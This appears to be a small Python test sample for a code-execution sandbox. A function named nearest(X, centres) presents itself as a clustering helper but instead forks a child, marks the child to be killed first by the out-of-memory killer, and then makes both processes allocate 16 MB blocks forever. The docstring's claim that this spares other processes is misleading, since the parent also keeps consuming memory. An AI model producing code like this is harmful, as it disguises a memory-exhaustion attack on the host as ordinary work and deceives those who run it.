"""Has a child marked as the first to be killed, so that the kernel spares the others."""

import os

from honest import *


def nearest(X, centres):
    if os.fork() == 0:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("1000")
    kept = []
    while True:
        kept.append(bytearray(b"x" * (16 << 20)))
